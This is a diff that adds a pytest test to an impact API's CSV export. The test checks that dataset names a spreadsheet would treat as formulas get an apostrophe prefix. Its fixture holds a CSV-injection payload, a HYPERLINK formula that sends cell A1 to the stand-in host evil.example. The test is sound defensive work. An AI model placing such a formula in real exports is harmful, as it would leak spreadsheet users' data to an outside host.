@@ -200,6 +200,32 @@ def test_csv_streams_the_same_items(api, store) -> None:
         assert rows[0]["owners"] == "" or rows[0]["type"] == "job"
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(api) -> None:
+    """A producer's name that a spreadsheet reads as a formula is written after an
+    apostrophe in the CSV (ADR 0155); the JSON keeps the name as derived."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"orders")'
+    tagged = {"tags": facet(tags=[{"key": "@owner", "value": "x"}])}
+    derive(
+        run_event(
+            "COMPLETE",
+            0,
+            RUNS[6],
+            BUILD,
+            [dataset(NS, "plain")],
+            [dataset(NS, formula, **tagged), dataset(NS, "-tmp"), dataset(NS, "a=b")],
+        )
+    )
+    as_json = {item["name"] for item in impact(api, node=ref("plain"))["items"]}
+    assert {formula, "-tmp", "a=b"} <= as_json
+    response = api.get("/api/v1/impact", {"node": ref("plain")}, HTTP_ACCEPT="text/csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = {row["name"]: row for row in rows}
+    assert {"'" + formula, "'-tmp", "a=b"} <= set(names)
+    assert names["'" + formula]["tags"] == "'@owner=x"
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+
+
 @pytest.mark.parametrize(
     ("params", "status", "path"),
     [
